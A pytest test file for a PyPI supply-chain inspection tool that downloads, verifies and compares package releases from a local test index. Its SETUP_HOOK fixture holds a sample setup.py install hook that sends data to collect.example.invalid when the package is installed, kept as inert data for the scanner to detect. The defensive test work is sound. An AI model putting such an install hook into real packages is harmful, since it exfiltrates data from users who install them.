"""`chaingate inspect name==version` and `--against`: files come from a local index over real
HTTP (tests/pypiserver.py), are verified against the index's sha256, and two releases are
compared. Every sample is inert (URLs under example.invalid, never run)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from msgspec.structs import replace
from packaging.tags import Tag

from chaingate.ecosystems.pypi.artifacts import (
    choose,
    files_as_of,
    files_of,
    parse_pin,
    previous_version,
)
from chaingate.ecosystems.pypi.simple import SimpleFile
from tests.pypiserver import PyPIServer, Status

SCHEMA = Path(__file__).parents[1] / "fixtures" / "sarif-schema-2.1.0.json"

SETUP_PLAIN = b'from setuptools import setup\nsetup(name="demo", version="1.0.0")\n'
SETUP_HOOK = b"""
from setuptools import setup
from setuptools.command.install import install
import urllib.request

class PostInstall(install):
    def run(self):
        urllib.request.urlopen("https://collect.example.invalid/x", data=b"hi")
        install.run(self)

setup(name="demo", version="1.0.1", cmdclass={"install": PostInstall})
"""
INIT = b'"""demo."""\n\ndef add(a, b):\n    return a + b\n'
INIT_NET = (
    INIT + b"\nimport socket\n\ndef ping(host):\n    return socket.create_connection((host, 80))\n"
)


def wheel_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def sdist_bytes(root: str, files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _file(filename: str, data: bytes, when: str, *, yanked: bool = False) -> dict[str, Any]:
    return {
        "filename": filename,
        "packagetype": "bdist_wheel" if filename.endswith(".whl") else "sdist",
        "requires_python": None,
        "size": len(data),
        "upload_time_iso_8601": when,
        "url": f"https://files.example/{filename}",
        "digests": {"sha256": hashlib.sha256(data).hexdigest()},
        "yanked": yanked,
        "yanked_reason": "broken" if yanked else None,
    }


def publish(server: PyPIServer, name: str, releases: dict[str, dict[str, bytes]]) -> None:
    """Serve a project whose releases are {version: {filename: bytes}} (in upload order)."""
    doc_releases: dict[str, list[dict[str, Any]]] = {}
    for i, (version, files) in enumerate(releases.items()):
        when = f"2024-0{i + 1}-01T00:00:00.000000Z"
        doc_releases[version] = []
        for filename, data in files.items():
            yanked = filename.startswith("YANKED:")
            filename = filename.removeprefix("YANKED:")
            server.add_file(filename, data)
            doc_releases[version].append(_file(filename, data, when, yanked=yanked))
    latest = list(releases)[-1]
    doc = {
        "info": {"name": name, "version": latest},
        "releases": doc_releases,
        "urls": doc_releases[latest],
        "last_serial": 1,
    }
    server.add_project(name, json.dumps(doc).encode())


def inspect(server: PyPIServer, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CHAINGATE_CACHE_DIR": str(tmp_path / "cache")}
    env.pop("CHAINGATE_INDEX_URL", None)
    return subprocess.run(
        [sys.executable, "-m", "chaingate", "inspect", *args, "--index-url", server.url,
         "--retries", "1"],
        capture_output=True, text=True, timeout=120, env=env,
    )  # fmt: skip


def demo_releases() -> dict[str, dict[str, bytes]]:
    return {
        "1.0.0": {
            "demo-1.0.0.tar.gz": sdist_bytes(
                "demo-1.0.0", {"setup.py": SETUP_PLAIN, "demo/__init__.py": INIT}
            ),
        },
        "1.0.1": {
            "demo-1.0.1.tar.gz": sdist_bytes(
                "demo-1.0.1", {"setup.py": SETUP_HOOK, "demo/__init__.py": INIT_NET}
            ),
        },
    }


# --- choosing files --------------------------------------------------------------------------


def _sf(filename: str, yanked: bool = False) -> SimpleFile:
    return SimpleFile(filename, f"https://x/{filename}", "0" * 64, None, yanked, None)


def test_pins_are_parsed() -> None:
    pin = parse_pin("Requests == 2.32.3")
    assert pin is not None and (pin.name, pin.version) == ("requests", "2.32.3")
    assert parse_pin("requests") is None and parse_pin("./dist/x.whl") is None


def test_the_wheel_ranked_best_for_this_interpreter_wins_and_sdist_is_the_fallback() -> None:
    files = [
        _sf("demo-1.0.tar.gz"),
        _sf("demo-1.0-py3-none-any.whl"),
        _sf("demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl"),
        _sf("demo-1.0-cp312-cp312-win_amd64.whl"),
    ]
    tags = [
        Tag("cp311", "cp311", "manylinux_2_17_x86_64"),
        Tag("py3", "none", "any"),
    ]
    chosen = choose(files, tags)
    assert chosen is not None and chosen.filename.endswith("manylinux_2_17_x86_64.whl")
    chosen = choose(files, [Tag("py3", "none", "any")])
    assert chosen is not None and chosen.filename == "demo-1.0-py3-none-any.whl"
    chosen = choose(files, [Tag("cp39", "cp39", "macosx_11_0_arm64")])
    assert chosen is not None and chosen.filename == "demo-1.0.tar.gz"


def test_files_of_a_version_and_the_previous_release() -> None:
    files = [
        _sf("demo-0.9.tar.gz"),
        _sf("demo-1.0.tar.gz", yanked=True),
        _sf("demo-1.0.0rc1.tar.gz"),
        _sf("demo-1.1.tar.gz"),
        _sf("demo-1.1-py3-none-any.whl"),
    ]
    assert [f.filename for f in files_of(files, "1.1.0")] == [
        "demo-1.1.tar.gz",
        "demo-1.1-py3-none-any.whl",
    ]
    # 1.0 is yanked and 1.0.0rc1 is a pre-release: the release before 1.1 is 0.9.
    assert previous_version(files, "1.1") == "0.9"
    assert previous_version(files, "0.9") is None


# --- over HTTP --------------------------------------------------------------------------------


def test_a_release_is_downloaded_verified_and_compared_with_the_previous(tmp_path: Path) -> None:
    with PyPIServer() as server:
        publish(server, "demo", demo_releases())
        proc = inspect(server, tmp_path, "demo==1.0.1", "-f", "json")
        assert proc.returncode == 1, proc.stderr
        doc = json.loads(proc.stdout)
        assert doc["artifact"]["filename"] == "demo-1.0.1.tar.gz"
        assert doc["artifact"]["verified"] is True
        assert doc["against"]["target"] == "demo==1.0.0" and doc["against"]["patch_release"]
        by_id = {f["id"]: f for f in doc["findings"]}
        # The install hook is new in a patch release: renamed, and at the top.
        assert by_id["new-install-hook"]["severity"] == "critical"
        assert by_id["new-install-hook"]["new"] is True
        assert by_id["new-install-hook"]["path"] == "demo-1.0.1/setup.py"
        assert by_id["new-network-code"]["path"] == "demo/__init__.py"
        assert doc["verdict"] == "critical"
        hits = dict(server.hits)
        # Cached by digest: a second run downloads nothing.
        proc = inspect(server, tmp_path, "demo==1.0.1", "-f", "json")
        assert proc.returncode == 1, proc.stderr
        assert server.hits["/files/demo-1.0.1.tar.gz"] == hits["/files/demo-1.0.1.tar.gz"]


def test_without_a_comparison_the_hook_is_what_it_is(tmp_path: Path) -> None:
    with PyPIServer() as server:
        publish(server, "demo", demo_releases())
        proc = inspect(server, tmp_path, "demo==1.0.1", "--no-against", "-f", "json")
        doc = json.loads(proc.stdout)
        assert "against" not in doc
        assert {f["id"] for f in doc["findings"]} >= {"install-hook"}
        assert not any(f["id"].startswith("new-") for f in doc["findings"])


def test_code_already_in_the_previous_release_weighs_less(tmp_path: Path) -> None:
    releases = demo_releases()
    same = releases["1.0.1"]["demo-1.0.1.tar.gz"]
    releases["1.0.2"] = {
        "demo-1.0.2.tar.gz": sdist_bytes(
            "demo-1.0.2", {"setup.py": SETUP_HOOK, "demo/__init__.py": INIT_NET}
        )
    }
    assert same  # 1.0.1 carries the same hook
    with PyPIServer() as server:
        publish(server, "demo", releases)
        plain = json.loads(
            inspect(server, tmp_path, "demo==1.0.2", "--no-against", "-f", "json").stdout
        )
        diff = json.loads(inspect(server, tmp_path, "demo==1.0.2", "-f", "json").stdout)
    assert diff["against"]["target"] == "demo==1.0.1"
    hook = next(f for f in plain["findings"] if f["id"] == "install-hook")
    old = next(f for f in diff["findings"] if f["id"] == "install-hook")
    order = ["low", "medium", "high", "critical"]
    assert order.index(old["severity"]) == order.index(hook["severity"]) - 1
    assert old["new"] is False and "already in demo==1.0.1" in old["message"]
    assert not any(f["id"].startswith("new-") for f in diff["findings"])


def test_against_a_local_archive_and_a_first_release(tmp_path: Path) -> None:
    releases = demo_releases()
    old = tmp_path / "demo-1.0.0.tar.gz"
    old.write_bytes(releases["1.0.0"]["demo-1.0.0.tar.gz"])
    new = tmp_path / "demo-1.0.1.tar.gz"
    new.write_bytes(releases["1.0.1"]["demo-1.0.1.tar.gz"])
    with PyPIServer() as server:
        publish(server, "demo", releases)
        proc = inspect(server, tmp_path, str(new), "--against", str(old), "-f", "json")
        doc = json.loads(proc.stdout)
        assert doc["against"]["target"] == str(old)
        assert any(f["id"] == "new-install-hook" for f in doc["findings"])
        first = inspect(server, tmp_path, "demo==1.0.0")
        assert first.returncode == 0, first.stderr
        assert "no earlier release on the index" in first.stdout


def test_bytes_that_do_not_match_the_index_digest_are_refused(tmp_path: Path) -> None:
    with PyPIServer() as server:
        publish(server, "demo", demo_releases())
        server.add_file("demo-1.0.1.tar.gz", b"not what the index vouched for")
        proc = inspect(server, tmp_path, "demo==1.0.1", "--no-against")
    assert proc.returncode == 3
    assert "sha256 mismatch" in proc.stderr and not proc.stdout
    assert not list((tmp_path / "cache").rglob("demo-1.0.1.tar.gz"))


def test_unknown_projects_and_versions_are_input_errors(tmp_path: Path) -> None:
    with PyPIServer() as server:
        publish(server, "demo", demo_releases())
        missing = inspect(server, tmp_path, "nosuch==1.0")
        version = inspect(server, tmp_path, "demo==9.9")
        neither = inspect(server, tmp_path, "no/such/file.whl")
    assert missing.returncode == 2 and "not on the index" in missing.stderr
    assert version.returncode == 2 and "no such release" in version.stderr
    assert neither.returncode == 2 and "not name==version" in neither.stderr


def test_a_failing_file_server_makes_the_inspection_unavailable(tmp_path: Path) -> None:
    with PyPIServer() as server:
        publish(server, "demo", demo_releases())
        server.always("/files/demo-1.0.1.tar.gz", Status(500))
        proc = inspect(server, tmp_path, "demo==1.0.1", "--no-against")
    assert proc.returncode == 3, proc.stderr
    assert "HTTP 500" in proc.stderr


@pytest.mark.parametrize("target", ["demo==1.0.1"])
def test_sarif_is_valid_and_locates_findings_in_the_package(tmp_path: Path, target: str) -> None:
    with PyPIServer() as server:
        publish(server, "demo", demo_releases())
        proc = inspect(server, tmp_path, target, "-f", "sarif")
    log = json.loads(proc.stdout)
    jsonschema.Draft4Validator(json.loads(SCHEMA.read_text())).validate(log)
    run = log["runs"][0]
    assert run["properties"]["verdict"] == "critical"
    hook = next(r for r in run["results"] if r["ruleId"] == "new-install-hook")
    loc = hook["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"] == {"uri": "demo-1.0.1/setup.py", "uriBaseId": "PACKAGE"}
    assert loc["region"]["startLine"] >= 1 and hook["level"] == "error"
    assert run["originalUriBaseIds"]["PACKAGE"]["uri"].startswith("file://")
    assert {r["id"] for r in run["tool"]["driver"]["rules"]} == {
        r["ruleId"] for r in run["results"]
    }


# --- the time machine ------------------------------------------------------------------------


def test_inspect_as_of_lists_the_files_and_the_previous_release_of_then(tmp_path: Path) -> None:
    """1.0.0 (January), 1.0.2 (February), then a 1.0.1 uploaded in March: as of mid-February
    1.0.2 is compared with 1.0.0, the previous release of then; 1.0.1 was not yet published."""
    releases = demo_releases()
    releases = {
        "1.0.0": releases["1.0.0"],
        "1.0.2": {"demo-1.0.2.tar.gz": releases["1.0.1"]["demo-1.0.1.tar.gz"]},
        "1.0.1": {"demo-1.0.1.tar.gz": releases["1.0.0"]["demo-1.0.0.tar.gz"]},
    }
    with PyPIServer() as server:
        publish(server, "demo", releases)
        today = inspect(server, tmp_path, "demo==1.0.2", "-f", "json")
        assert json.loads(today.stdout)["against"]["target"] == "demo==1.0.1"
        then = inspect(server, tmp_path, "demo==1.0.2", "-f", "json", "--as-of", "2024-02-15")
        assert then.returncode == 1, then.stderr
        assert json.loads(then.stdout)["against"]["target"] == "demo==1.0.0"
        early = inspect(server, tmp_path, "demo==1.0.1", "--as-of", "2024-02-15")
        assert early.returncode == 3
        assert early.stderr.strip() == (
            "chaingate: demo==1.0.1: not yet published as of 2024-02-15T00:00:00Z"
        )
        bad = inspect(server, tmp_path, "demo==1.0.1", "--as-of", "last week")
        assert bad.returncode == 2
        assert bad.stderr == "chaingate: --as-of: not an ISO 8601 date or time: 'last week'\n"


def test_a_listing_without_upload_times_cannot_be_dated() -> None:
    when = datetime(2024, 2, 15, tzinfo=UTC)
    assert files_as_of([_sf("demo-1.0.0.tar.gz")], when) is None
    dated = SimpleFile("demo-1.0.0.tar.gz", "https://x/d", None, when, True, "broken")
    assert files_as_of([dated], when) == [replace(dated, yanked=False, yanked_reason=None)]
    assert files_as_of([dated], when.replace(day=14)) == []
